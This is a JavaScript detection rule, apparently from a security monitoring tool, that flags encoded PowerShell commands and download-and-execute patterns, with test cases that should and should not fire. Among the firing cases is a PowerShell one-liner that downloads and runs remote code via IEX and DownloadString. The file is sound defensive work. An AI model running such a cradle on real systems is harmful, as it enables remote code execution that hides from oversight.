import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** PowerShell was given a command in an encoding that people cannot read. */
export const encodedPowershell = commandRule({
  id: "encoded-powershell",
  alertType: "Picket_EncodedPowershell",
  name: "Encoded PowerShell command",
  severity: "Medium",
  about: "PowerShell was given a command in an encoding that people cannot read.",
  tactics: ["Execution", "Defense Evasion"],
  techniques: ["T1059.001", "T1027.010"],
  falsePositives: ["Management tools that pass commands encoded to avoid quoting."],
  witness: ["pwsh", "powershell"],
  sees: (reading) =>
    find(
      reading,
      /^(?:pwsh|powershell)(?:-preview|\.exe)?$/,
      ({ argv }) =>
        argv.some(
          (word, place) =>
            /^-(?:e|ec|enc|enco\w*|encodedcommand)$/i.test(word) && (argv[place + 1] ?? "").length > 16,
        ) || argv.some((word) => /(?:IEX|Invoke-Expression|DownloadString|FromBase64String)/i.test(word)),
    ),
  did: "ran an encoded PowerShell command",
  because: "what it does is hidden from people",
  fires: [
    "pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0A",
    "pwsh -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A",
    "pwsh -c IEX((New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'))",
  ],
  silent: [
    "pwsh -File build.ps1",
    "pwsh -Command Get-Date",
    "pwsh -Version",
    "pwsh -NoLogo",
    "apt-get install powershell",
    "pwsh -NonInteractive -File /opt/a.ps1 -e prod",
  ],
});
